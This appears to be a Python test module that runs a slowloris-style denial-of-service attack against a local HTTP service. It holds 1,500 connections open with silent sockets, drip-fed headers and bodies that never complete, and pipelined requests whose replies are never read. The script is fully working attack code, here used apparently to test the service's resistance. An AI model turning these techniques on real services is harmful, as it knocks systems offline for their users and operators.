"""Hold as many connections as one address can: silent, dripping headers, dripping a body, and not reading."""

import asyncio
import random
from contextlib import suppress
from itertools import cycle

from tests.attack.outside.attacker import Attacker, goes_on

AT_ONCE = 1_500
"""More than the 1,024 descriptors that many systems give to a service."""

OPENED_TOGETHER = 100

UNREAD = b"GET /openapi.json HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n"
JSON = b"Content-Type: application/json\r\nContent-Length: 9000\r\n\r\n"
BODY = b"POST /api/v1/check HTTP/1.1\r\nHost: 127.0.0.1\r\n" + JSON

BEGINNINGS = (b"", b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", BODY, UNREAD * 20)
"""Says nothing, never ends its headers, never ends its body, asks twenty times and reads nothing."""

DROPS = (b"", b"X-Drop: 1\r\n", b" ", b"")


async def attack(attacker: Attacker, until: float) -> None:
    """Open connections as fast as they are let in, and keep them all busy doing nothing."""
    async with asyncio.TaskGroup() as held:
        for number in range(AT_ONCE):
            held.create_task(hold(attacker, until, number))
            if number % OPENED_TOGETHER == 0:
                await asyncio.sleep(0.05)


async def hold(attacker: Attacker, until: float, number: int) -> None:
    """Hold one connection; open another one as soon as it is closed."""
    kinds = cycle(range(len(BEGINNINGS)))
    for _ in range(number % len(BEGINNINGS)):
        next(kinds)
    while goes_on(until):
        with suppress(OSError, asyncio.IncompleteReadError):
            await hold_once(attacker.port, until, next(kinds))
        await asyncio.sleep(random.random())


async def hold_once(port: int, until: float, kind: int) -> None:
    """Hold a connection until the service closes it or the time is over. Nothing of an answer is read."""
    reader, writer = await asyncio.open_connection("127.0.0.1", port, limit=1_000)
    try:
        writer.write(BEGINNINGS[kind])
        while goes_on(until) and not reader.at_eof() and not writer.is_closing():
            writer.write(DROPS[kind])
            await asyncio.sleep(0.5)
    finally:
        writer.transport.abort()
